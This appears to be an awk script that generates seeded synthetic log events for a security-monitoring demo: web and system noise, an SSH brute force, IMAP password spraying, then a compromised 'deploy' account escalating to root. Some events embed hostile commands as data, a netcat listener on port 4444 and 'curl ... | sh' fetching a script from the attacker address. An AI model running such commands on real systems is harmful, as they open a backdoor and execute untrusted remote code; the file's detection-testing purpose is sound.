# The demo scenario: an SSH brute force against several hosts, then a
# successful login and what the intruder does next, over background noise.
# Prints "SECOND<TAB>EVENT" lines; the replayer stamps each event with the
# time it is sent (the placeholder @TS@).  Deterministic (seeded).
#   awk -f scenario.awk [-v seconds=120]
function pick(a, n) { return a[int(rand() * n) + 1] }
function ev(t, host, proc, pid, sev, cat, src, summary, details) {
	printf "%d\t{\"timestamp\":\"@TS@\",\"hostname\":\"%s\",\"processname\":\"%s\",\"processid\":%d,\"severity\":\"%s\",\"category\":\"%s\",\"source\":\"%s\",\"summary\":\"%s\",\"details\":{%s}}\n", t, host, proc, pid, sev, cat, src, summary, details
}
BEGIN {
	srand(42)
	if (seconds == "") seconds = 120
	split("web1 web2 web3 db1 mail1 bastion", hosts, " ")
	split("admin root test oracle ubuntu guest postgres git ftp support deploy user", users, " ")
	split("GET GET GET POST GET HEAD", methods, " ")
	split("/ /index.html /login /api/v1/items /static/app.js /health /wp-login.php /api/v1/orders", paths, " ")
	split("200 200 200 200 304 404 401 500", codes, " ")
	attacker = "203.0.113.7"; sprayer = "198.51.100.23"
	for (t = 0; t < seconds; t++) {
		# background noise: web traffic, cron, mail, kernel
		for (i = 0; i < 6; i++) {
			h = "web" (int(rand() * 3) + 1); ip = "192.0.2." int(rand() * 250 + 1)
			m = pick(methods, 6); p = pick(paths, 8); c = pick(codes, 8); b = int(rand() * 20000)
			ev(t, h, "nginx", 812, c >= 500 ? "ERROR" : "INFO", "web", "access.log", ip " - - \\\"" m " " p " HTTP/1.1\\\" " c " " b, "\"sourceipaddress\":\"" ip "\",\"method\":\"" m "\",\"path\":\"" p "\",\"status\":" c ",\"bytes\":" b)
		}
		if (t % 10 == 0)
			ev(t, pick(hosts, 6), "CRON", 20000 + t, "INFO", "system", "syslog", "(root) CMD (/usr/lib/sysstat/sa1 1 1)", "\"username\":\"root\"")
		if (t % 15 == 3)
			ev(t, "mail1", "postfix/smtpd", 3301, "INFO", "mail", "mail.log", "connect from unknown[192.0.2." int(rand()*250+1) "]", "\"service\":\"smtp\"")
		if (t % 30 == 7)
			ev(t, "db1", "kernel", 0, "WARNING", "system", "kern.log", "TCP: request_sock_TCP: Possible SYN flooding on port 5432. Sending cookies.", "\"destinationport\":5432")
		# the brute force: from t=20 to t=80 against several hosts
		if (t >= 20 && t < 80) {
			for (i = 0; i < 3; i++) {
				h = (t < 40) ? "bastion" : (t < 60 ? "web1" : "web2")
				u = pick(users, 12); port = 40000 + int(rand() * 20000)
				inv = (u == "deploy" || u == "root") ? "" : "invalid user "
				ev(t, h, "sshd", 4000 + t, "WARNING", "authentication", "auth.log", "Failed password for " inv u " from " attacker " port " port " ssh2", "\"sourceipaddress\":\"" attacker "\",\"sourceport\":" port ",\"username\":\"" u "\",\"success\":false,\"authmethod\":\"password\"")
			}
		}
		# password spraying from another address: many users, one try each
		if (t >= 30 && t < 42)
			ev(t, "mail1", "dovecot", 5100, "WARNING", "authentication", "mail.log", "imap-login: Disconnected (auth failed, 1 attempts): user=<" users[t - 29] ">, rip=" sprayer, "\"sourceipaddress\":\"" sprayer "\",\"username\":\"" users[t - 29] "\",\"success\":false,\"service\":\"imap\"")
		# success, then the intruder settles in
		if (t == 82)
			ev(t, "web2", "sshd", 4182, "NOTICE", "authentication", "auth.log", "Accepted password for deploy from " attacker " port 52240 ssh2", "\"sourceipaddress\":\"" attacker "\",\"sourceport\":52240,\"username\":\"deploy\",\"success\":true,\"authmethod\":\"password\"")
		if (t == 85)
			ev(t, "web2", "sudo", 4190, "NOTICE", "authentication", "auth.log", "deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash", "\"username\":\"deploy\",\"targetuser\":\"root\",\"command\":\"/bin/bash\"")
		if (t == 88)
			ev(t, "web2", "auditd", 611, "WARNING", "audit", "audit.log", "ANOM_PROMISCUOUS dev=eth0 prom=256 old_prom=0 auid=1001 uid=0", "\"auditkey\":\"ANOM_PROMISCUOUS\",\"device\":\"eth0\",\"username\":\"deploy\"")
		if (t == 90)
			ev(t, "web2", "systemd", 1, "NOTICE", "system", "syslog", "New listening socket 0.0.0.0:4444 by process nc (pid 4242)", "\"destinationport\":4444,\"command\":\"nc -lvp 4444\",\"newlistener\":true")
		if (t == 95)
			ev(t, "web2", "bash", 4242, "WARNING", "execution", "audit.log", "curl -s http://203.0.113.7/x.sh | sh", "\"username\":\"root\",\"command\":\"curl -s http://203.0.113.7/x.sh | sh\",\"destinationipaddress\":\"" attacker "\"")
	}
}
